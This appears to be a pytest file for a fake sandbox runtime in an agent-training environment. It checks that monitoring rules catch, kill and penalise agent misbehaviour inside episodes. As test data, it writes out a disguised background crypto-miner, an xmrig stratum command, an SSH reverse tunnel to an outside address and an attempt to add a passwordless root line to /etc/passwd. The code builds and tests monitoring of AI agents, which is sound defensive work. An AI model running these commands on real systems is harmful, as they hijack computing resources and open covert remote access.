"""The fake sandbox (corral.sandbox.fake): the logic above the sandbox (episodes and rewards, the Gymnasium
env, `corral serve`) tested without root, through the real rules, store and responder.

These tests never stand in for the isolation tests: each case here has a twin on real sandboxes (cited),
and the fake has to behave as that twin does. The last test runs this whole file again as `nobody`."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import sysconfig
import tempfile
from pathlib import Path

import pytest

from corral import EpisodeEnded, FileAccessError, RuntimeConfig, SandboxClosed, SandboxConfig, SessionError
from corral.agent.reward import RewardConfig
from corral.agent.tasks import Task
from corral.envs.episode import AsyncToolEpisode
from corral.events import Event, EventKind
from corral.sandbox import ExecResult, OutputChunk
from corral.sandbox.fake import Call, Connect, Exec, FakeRuntime, Reply, Script, sync_runtime

POOL = ("203.0.113.5", 3333)
SUBSCRIBE = b'{"id":1,"method":"mining.subscribe","params":[]}\n'


def verifier(call: Call) -> Reply:
    """The task's verifier, scripted: passes when calc.py adds. It writes the JUnit XML report corral
    scores (at $CORRAL_REPORT, a path chosen at grading time), as examples/tasks/_shared/run.py does."""
    ok = "return a + b" in call.fs.read("/workspace/calc.py").decode()
    case = '<testcase name="add"/>' if ok else '<testcase name="add"><failure/></testcase>'
    call.fs.write(call.env["CORRAL_REPORT"], f"<testsuite>{case}</testsuite>".encode())
    return Reply(0 if ok else 1, "1 passed\n" if ok else "1 failed\n")


def miner_script() -> Script:
    s = Script()
    s.on("python3 -I tests/run.py", verifier)  # the verifier, as grading runs it (python3 -I)
    # a program that is not a miner by name: caught by what it does (the stratum bytes), not what it is
    s.on("python3 /workspace/.cache/opt.py", lambda call: Reply(0, "optimising\n"))
    s.on("python3 pool.py", lambda call: Reply(effects=[Connect(*POOL, SUBSCRIBE)]))
    s.on("python3 fetch.py", lambda call: Reply(effects=[Connect("203.0.113.99", 80, b"GET / HTTP/1.0\r\n\r\n")]))
    s.on("./setup.sh", lambda call: Reply(0, "set up\n", effects=[Exec(["/tmp/xmrig", "30"])]))
    return s


def calc_task(**kw) -> Task:
    return Task.model_validate({
        "id": "calc", "instruction": "Write add(a, b) in /workspace/calc.py.", "files": {"README.md": "calc task\n"},
        "verifier": {"command": "python3 tests/run.py", "files": {"tests/run.py": "# scripted in the fake\n"},
                     "score": "pytest"}, **kw})


@pytest.fixture
async def rt(tmp_path):
    r = FakeRuntime(RuntimeConfig(state_dir=tmp_path / "state", hosts={"pool.example.net": [POOL[0]]}),
                    script=miner_script())
    await r.start()
    yield r
    await r.close()


def findings(rt, sb, rule=None):
    return [f for f in rt.store.findings(sandbox_id=sb.id) if rule is None or f.rule_id == rule]


# -- 1. episodes and rewards (twins: tests/test_episodes.py, tests/test_gym_env.py) --------------------------
async def test_solved_episode_is_graded_in_a_fresh_sandbox_and_rewarded(rt):
    """test_episodes.py::test_scripted_agent_solves_and_is_rewarded: the work crosses to a fresh grading
    sandbox as a filtered tar, the verifier runs there and its report is scored."""
    ep = AsyncToolEpisode(rt, [calc_task()])
    await ep.start("calc", episode_id="ep-solve")
    assert (await ep.call("shell", {"command": "cat README.md && ls"})).stdout == "calc task\nREADME.md\n"
    await ep.call("write_file", {"path": "/workspace/calc.py", "content": "def add(a, b):\n    return a - b\n"})
    await ep.call("edit_file", {"path": "/workspace/calc.py", "old": "a - b", "new": "a + b"})
    out = await ep.call("submit")
    assert out.done and out.termination_reason == "submitted"
    assert out.reward == 1.0 and out.reward_components == {"verifier": 1.0, "safety": 0.0}
    assert out.verifier["passed"] == 1 and out.verifier["sandbox_id"] != ep.sandbox_id and out.violations == []
    await ep.close_sandbox()


async def test_background_miner_ends_episode_penalised_and_attributed_to_its_step(rt):
    """test_episodes.py::test_background_miner_ends_episode_penalised_and_attributed: a program started in
    the background at step 2 speaks stratum at a later step; the finding names step 2 and its command, the
    responder kills it by lineage, and the episode ends with the violation penalty."""
    ep = AsyncToolEpisode(rt, [calc_task()], reward=RewardConfig(violation_penalty=-2.0))
    await ep.start("calc", episode_id="ep-miner")
    await ep.call("write_file", {"path": "/workspace/.cache/opt.py", "content": "# a miner\n"})
    started = await ep.call("shell", {"command": "nohup python3 /workspace/.cache/opt.py >/dev/null 2>&1 &"})
    assert started.step == 2 and not started.ended and started.stdout == ""  # its output went to /dev/null
    miner = next(p for p in ep.sb.processes() if p.argv[-1].endswith("opt.py"))
    assert miner.step == 2
    out = await ep.call("shell", {"command": "echo working on the task"})
    assert not out.ended  # nothing yet: the miner has not spoken
    assert not await ep.sb.cause(Connect(*POOL, SUBSCRIBE), pid=miner.pid)  # later, from the background
    out = await ep.call("shell", {"command": "echo still working"})
    assert out.done and out.termination_reason == "security_violation" and out.violated
    assert out.reward == -2.0 and out.reward_components == {"verifier": 0.0, "safety": -2.0}
    v = next(v for v in out.violations if v["rule"] == "stratum-protocol")
    assert v["step"] == 2 and v["command"].startswith("nohup python3") and v["evidence"]
    assert not miner.alive  # the finding's kill action took the step that started it
    kill = [e for e in rt.store.events(sandbox_id=ep.sandbox_id, kind="action") if e.action == "kill"]
    assert kill and kill[0].step == 2 and kill[0].data["killed"] == 1
    await ep.close_sandbox()


async def test_end_episode_action_refuses_later_commands_until_reset(tmp_path):
    """respond.py's end_episode, as tests/test_detection.py drives it: the sandbox refuses commands with
    EpisodeEnded until reset(); a miner hidden in a script is refused at exec (126, Operation not permitted)."""
    cfg = RuntimeConfig(state_dir=tmp_path, actions={"miner-binary": "end_episode"})
    async with FakeRuntime(cfg, script=miner_script()) as rt:
        sb = await rt.create(episode_id="ep-end")
        await sb.write_file("/workspace/setup.sh", "cp /bin/sleep /tmp/xmrig\n/tmp/xmrig 30\n")
        r = await sb.exec("./setup.sh")
        await rt.drain()
        f = findings(rt, sb, "miner-binary")[0]
        assert f.step == r.step and f.command == "./setup.sh" and f.data["exe"] == "/tmp/xmrig"
        # the exec was refused (the real test accepts either sign of it): the script saw EPERM, and the
        # finding's kill then ended its step before the command returned (-9)
        assert "./setup.sh: Operation not permitted" in r.stderr and r.exit_code == -9
        assert "/tmp/xmrig" not in [p.exe for p in sb.processes()]
        ev = next(e for e in rt.store.events(sandbox_id=sb.id, kind="process") if e.exe == "/tmp/xmrig")
        assert ev.verdict == "deny" and "miner-binary" in ev.reason and ev.episode_id == "ep-end"
        assert sb.terminated and sb.terminated.startswith("miner-binary")
        with pytest.raises(EpisodeEnded, match="reset"):
            await sb.exec("echo after")
        await sb.reset()
        assert (await sb.exec("echo after")).stdout == "after\n" and sb.terminated is None


def test_gym_env_over_the_fake_runtime(tmp_path):
    """test_gym_env.py::test_violation_terminates_with_penalty and ::test_registered_and_solves, through the
    blocking wrappers (corral.sync) and ToolEpisode."""
    from corral.envs import SandboxEnv

    task = calc_task(limits={"max_steps": 4})
    rt = sync_runtime(RuntimeConfig(state_dir=tmp_path), script=miner_script()).start()
    try:
        env = SandboxEnv([task], runtime=rt)
        env.reset(seed=0)
        _obs, r, term, trunc, info = env.step(json.dumps(
            {"tool": "shell", "arguments": {"command": "ssh -N -R 2222:127.0.0.1:22 t@203.0.113.7"}}))
        assert term and not trunc and r == -1.0 and info["termination_reason"] == "security_violation"
        assert info["violations"][0]["rule"] == "ssh-tunnel" and info["violations"][0]["step"] == 1
        obs, info = env.reset(seed=0)
        assert "add(a, b)" in obs and info["task_id"] == "calc"
        _obs, r, term, _trunc, _info = env.step(json.dumps({"tool": "write_file", "arguments": {
            "path": "/workspace/calc.py", "content": "def add(a, b):\n    return a + b\n"}}))
        assert (r, term) == (0.0, False)
        _obs, r, term, _trunc, info = env.step(json.dumps({"tool": "submit", "arguments": {}}))
        assert term and r == 1.0 and info["termination_reason"] == "submitted"
        env.close()
    finally:
        rt.close()


# -- 2. corral serve over a FakeRuntime (twin: tests/test_server_rock.py) ------------------------------------
def test_corral_serve_rock_api_over_the_fake(tmp_path):
    """ROCK's routes as tests/test_server_rock.py drives them with its SDK: start, session state, files,
    a refused tunnel (126, the finding in failure_reason and /findings), a denied connection named in
    failure_reason, an ended episode answered 409, stop."""
    from fastapi.testclient import TestClient

    from corral.server import create_app
    from corral.server.state import PREFIX

    made: list[FakeRuntime] = []

    def factory(cfg: RuntimeConfig) -> FakeRuntime:
        made.append(FakeRuntime(cfg, script=miner_script()))
        return made[-1]

    from corral.server.config import OpenEnvSettings, ServeConfig

    cfg = RuntimeConfig(state_dir=tmp_path, actions={"stratum-protocol": "end_episode"})
    # ROCK's routes alone: OpenEnv's mount would import gradio and pandas, whose compiled parts the
    # unprivileged rerun's interpreter may not load (tests/test_openenv.py covers that mount)
    app = create_app(ServeConfig(runtime=cfg, openenv=OpenEnvSettings(enabled=False)), ["tok-" + "a" * 20],
                     runtime_factory=factory)
    with TestClient(app, headers={"Authorization": "Bearer tok-" + "a" * 20}) as c:
        def post(route: str, **body) -> dict:
            return c.post(f"{PREFIX}/{route}", json=body).json()

        assert c.get("/health").json() == {"status": "ok"}
        start = post("start_async", image="python:3.11", memory="1g", cpus=1)
        sid = start["result"]["sandbox_id"]
        assert start["status"] == "Success" and made[0].sandboxes[start["result"]["corral"]["sandbox_id"]]
        r = post("execute", sandbox_id=sid, command=["echo", "hello world"])["result"]
        assert (r["exit_code"], r["stdout"]) == (0, "hello world\n")
        assert post("create_session", sandbox_id=sid, session="s1")["status"] == "Success"
        run = lambda cmd, **kw: post("run_in_session", sandbox_id=sid, session="s1", command=cmd, **kw)  # noqa: E731
        assert run("mkdir -p /tmp/w && cd /tmp/w && export ANSWER=42")["result"]["exit_code"] == 0
        assert run("echo $ANSWER in $(pwd)")["result"]["output"] == "42 in /tmp/w"
        assert post("write_file", sandbox_id=sid, path="/tmp/w/notes.txt", content="line one\n")["result"]["success"]
        assert post("read_file", sandbox_id=sid, path="/tmp/w/notes.txt")["result"]["content"] == "line one\n"
        assert "exit code 3" in run("(exit 3)")["error"]  # check="raise": a failing command is Failed

        obs = run("ssh -N -R 2222:127.0.0.1:22 t@203.0.113.7", check="silent")["result"]
        assert obs["exit_code"] == 126 and "ssh-tunnel" in obs["failure_reason"]
        assert [f["rule_id"] for f in obs["corral"]["findings"]] == ["ssh-tunnel"]
        found = c.get("/findings", params={"sandbox_id": sid}).json()["findings"]
        assert [f["rule_id"] for f in found] == ["ssh-tunnel"] and found[0]["rock_sandbox_id"] == sid
        assert "egress-denied" in run("python3 fetch.py", check="silent")["result"]["failure_reason"]

        obs = run("python3 pool.py", check="silent")["result"]
        assert "stratum-protocol" in obs["failure_reason"]
        ended = run("echo after")  # the finding ended the episode: 409 on the next call, as ROCK answers
        assert ended["status"] == "Failed" and ended["corral"]["http_status"] == 409
        assert "ended by a security finding" in ended["error"]
        assert post("stop", sandbox_id=sid)["status"] == "Success"
        assert "not found" in c.get(f"{PREFIX}/get_status", params={"sandbox_id": sid}).json()["error"]
    assert not made[0].started and not made[0].sandboxes  # the lifespan closed the runtime and its sandboxes


# -- 3. the sandbox interface, as the real one behaves (twins: tests/test_exec.py) ---------------------------
async def test_exec_result_streaming_and_timeouts(rt):
    """test_exec.py::test_exec_result_fields, ::test_exec_env_cwd_stdin, ::test_streaming_output."""
    sb = await rt.create()
    r = await sb.exec("echo out; echo err >&2; exit 7")
    assert (r.exit_code, r.stdout, r.stderr, r.step) == (7, "out\n", "err\n", sb.step) and not r.timed_out
    await sb.exec("mkdir -p /workspace/sub")
    r = await sb.exec("pwd; echo $FOO; cat", env={"FOO": "bar"}, cwd="/workspace/sub", stdin=b"from stdin")
    assert r.stdout == "/workspace/sub\nbar\nfrom stdin"
    chunks = [c async for c in sb.stream("echo line1; sleep 0.01; echo line2 >&2")]
    assert isinstance(chunks[-1], ExecResult) and chunks[-1].ok
    assert [(c.stream, c.data) for c in chunks if isinstance(c, OutputChunk)] == [
        ("stdout", b"line1\n"), ("stderr", b"line2\n")]
    slow = await sb.exec("sleep 30", timeout=0.2)
    assert slow.timed_out and slow.exit_code == -9 and "timed out after 0.2s" in slow.error
    missing = await sb.exec("no-such-program --flag")
    assert missing.exit_code == 127 and "command not found" in missing.stderr
    assert (await sb.exec("for i in 1 2; do echo $i; done")).exit_code == 2  # not interpreted: says so
    r = await sb.exec("xmrig -o stratum+tcp://pool.example.net:3333")  # refused before anything runs
    assert r.refused and r.exit_code is None and "miner-binary" in r.error
    assert not [e for e in rt.store.events(sandbox_id=sb.id, kind="command", step=r.step) if e.action == "start"]
    # test_evasion.py::test_a_command_line_over_a_mebibyte_is_refused_unread_with_an_event
    big = await sb.exec("true " + "x" * (1 << 20))
    assert big.refused and "1 MiB" in big.error


async def test_steps_count_on_across_reset_and_sessions_and_files_round_trip(rt, tmp_path):
    """test_exec.py::test_session_keeps_cwd_env_and_functions, ::test_session_exit_and_errors,
    ::test_files_roundtrip, ::test_workspace_template_and_reset; steps numbered as sandbox.py's reset()
    numbers them (they count on: first_step is where the new episode starts)."""
    tpl = tmp_path / "tpl"
    (tpl / "pkg").mkdir(parents=True)
    (tpl / "task.txt").write_text("solve me\n")
    (tpl / "pkg" / "m.py").write_text("x = 1\n")
    sb = await rt.create(SandboxConfig(workspace_template=tpl), episode_id="ep-a")
    assert (await sb.exec("cat /workspace/task.txt /workspace/pkg/m.py")).stdout == "solve me\nx = 1\n"
    s = await sb.create_session("main")
    await s.run("cd /tmp && export GREETING=hi")
    r = await s.run("pwd; echo $GREETING")
    assert (r.stdout, r.step) == ("/tmp\nhi\n", 3)
    assert (await s.run("false")).exit_code == 1
    with pytest.raises(SessionError):
        await sb.create_session("main")
    ended = await s.run("exit 3")
    assert ended.exit_code is None and ended.error and sb.sessions() == []
    with pytest.raises(SessionError):
        await sb.run_in_session("main", "true")

    await sb.write_file("/workspace/dir/a.txt", "hello")
    assert await sb.read_file("/workspace/dir/a.txt") == b"hello"
    blob = os.urandom(200_000)
    await sb.write_file("/tmp/blob", blob)
    assert await sb.read_file("/tmp/blob") == blob
    with pytest.raises(FileAccessError):
        await sb.read_file("/workspace/missing")
    with pytest.raises(FileAccessError, match="Read-only"):
        await sb.write_file("/etc/passwd", "root::0:0::/:/bin/sh\n")  # only the tmpfs mounts are writable
    await sb.exec("echo new > /workspace/pkg/new.txt")
    assert await sb.download("/workspace", tmp_path / "out") == []
    assert (tmp_path / "out" / "pkg" / "new.txt").read_text() == "new\n"
    assert (tmp_path / "out" / "dir" / "a.txt").read_text() == "hello"
    steps_before = sb.step
    assert steps_before == 6  # internal work (write_file, read_file, download) takes no step

    await sb.exec("echo junk > /workspace/junk; rm /workspace/task.txt")
    await sb.exec("sleep 1000 &")
    assert [p.argv for p in sb.processes()] == [["sleep", "1000"]]  # a background job outlives its step
    await sb.reset()
    assert sb.first_step == steps_before + 3 and sb.generation == 1
    assert sb.processes() == [] and sb.sessions() == []
    r = await sb.exec("ls -A /workspace; ls -A /tmp")
    assert r.stdout == "pkg\ntask.txt\n" and r.step == sb.first_step
    sb.episode_id = "ep-b"
    await sb.exec("echo second")
    starts = [(e.step, e.episode_id) for e in rt.store.events(sandbox_id=sb.id, kind="command") if e.action == "start"]
    assert starts[-2:] == [(9, "ep-a"), (10, "ep-b")]


async def test_closed_and_frozen_sandboxes_refuse_as_the_real_one(rt):
    """test_exec.py::test_close_kills_background_processes and sandbox.py's freeze(): a running command
    ends with the quarantine as its error; SandboxFrozen until release(); SandboxClosed after close()."""
    import asyncio

    from corral import SandboxFrozen

    sb = await rt.create()
    running = asyncio.ensure_future(sb.exec("sleep 30"))
    await asyncio.sleep(0.05)
    await sb.freeze("by request")
    r = await running
    assert r.exit_code is None and "quarantined" in r.error
    with pytest.raises(SandboxFrozen):
        await sb.exec("true")
    await sb.release()
    assert (await sb.exec("sleep 1000 & echo started")).stdout == "started\n"
    assert sb.pids() and sb.live_steps() == [sb.step]
    await sb.close()
    assert sb.pids() == [] and sb.id not in rt.sandboxes
    with pytest.raises(SandboxClosed):
        await sb.exec("true")
    actions = [e.action for e in rt.store.events(sandbox_id=sb.id, kind="sandbox")]
    assert actions[0] == "created" and actions[-1] == "closed" and "frozen" in actions and "released" in actions


async def test_handlers_see_state_and_raw_events_are_attributed(rt):
    """A handler reads and writes the fake filesystem and may report any event; the sandbox fills in
    episode, step and command as Sandbox.attribute() does, and the rules judge it."""
    sb = await rt.create(episode_id="ep-h")

    @sb.on("git push*")
    def push(call: Call) -> Reply:
        call.fs.write(call.path("pushed.txt"), call.stdin)
        call.cause(Event(kind=EventKind.SANDBOX, action="note", sandbox_id="", reason="scripted"))
        return Reply(0, f"pushed from {call.cwd}\n")

    r = await sb.exec("echo data | git push origin main", tool_call_id="call-7")
    assert r.stdout == "pushed from /workspace\n" and await sb.read_file("/workspace/pushed.txt") == b"data\n"
    note = next(e for e in rt.store.events(sandbox_id=sb.id, kind="sandbox") if e.action == "note")
    assert (note.step, note.episode_id, note.command) == (r.step, "ep-h", "echo data | git push origin main")
    assert note.data["tool_call_id"] == "call-7"
    execs = [e for e in rt.store.events(sandbox_id=sb.id, kind="process") if e.step == r.step]
    assert [e.argv for e in execs] == [["git", "push", "origin", "main"]]  # echo is a shell builtin: no exec


# -- 4. no root needed --------------------------------------------------------------------------------------
def test_child_is_not_root():
    """Runs only in the child of test_fake_tests_pass_as_nobody, to show that it was not root."""
    if os.environ.get("CORRAL_FAKE_AS_NOBODY") != "1":
        pytest.skip("only in the unprivileged child")
    assert os.geteuid() == 65534 and os.getegid() == 65534
    with pytest.raises(PermissionError):
        os.mkdir("/run/corral-fake-probe")


def _python_for(uid: int) -> list[str]:
    """A Python that `uid` can run, with this environment's packages: this interpreter, or, when it lives
    where that uid cannot reach (a pyenv build under /root, say), the system's of the same version with
    this environment's site-packages added."""
    def reachable(path: str) -> bool:
        p = Path(path).resolve()
        return all(os.stat(d).st_mode & 0o001 for d in p.parents) and os.stat(p).st_mode & 0o001 != 0

    if reachable(sys.executable) and reachable(sys.base_prefix):
        return [sys.executable]
    version = f"python{sys.version_info.major}.{sys.version_info.minor}"
    other = shutil.which(version, path="/usr/local/bin:/usr/bin:/bin")
    if other is None or not reachable(other):
        pytest.fail(f"no {version} that uid {uid} can run (this one is {sys.executable})")
    site_dir = sysconfig.get_paths()["purelib"]
    return [other, "-c", f"import site, sys; site.addsitedir({site_dir!r}); import pytest; "
                         "sys.exit(pytest.main(sys.argv[1:]))"]


def test_fake_tests_pass_as_nobody():
    """Every other test of this file, run again as uid 65534 (no capabilities, no unshare, no cgroups)."""
    if os.geteuid() != 0:
        pytest.skip("already unprivileged")
    home = tempfile.mkdtemp(prefix="corral-fake-nobody-")
    os.chown(home, 65534, 65534)

    def drop() -> None:
        os.setgroups([])
        os.setgid(65534)
        os.setuid(65534)

    python = _python_for(65534)
    args = ["-q", "-p", "no:cacheprovider", "--basetemp", f"{home}/pytest", "-k", "not as_nobody", __file__]
    # the child runs in this suite's own network namespace, which by now may hold corral's links of
    # other tests' runtimes (conftest's check looks for loopback alone)
    env = {**os.environ, "HOME": home, "TMPDIR": home, "PYTHONDONTWRITEBYTECODE": "1", "CORRAL_FAKE_AS_NOBODY": "1",
           "CORRAL_TEST_NETNS_OK": "1"}
    try:
        p = subprocess.run([*python, *(["-m", "pytest"] if len(python) == 1 else []), *args],
                           cwd=Path(__file__).parents[1], env=env, preexec_fn=drop, capture_output=True,
                           text=True, timeout=110)
    finally:
        shutil.rmtree(home, ignore_errors=True)
    tail = (p.stdout + p.stderr)[-3000:]
    assert p.returncode == 0, tail
    assert "failed" not in tail and " passed" in tail and "skipped" not in tail, tail
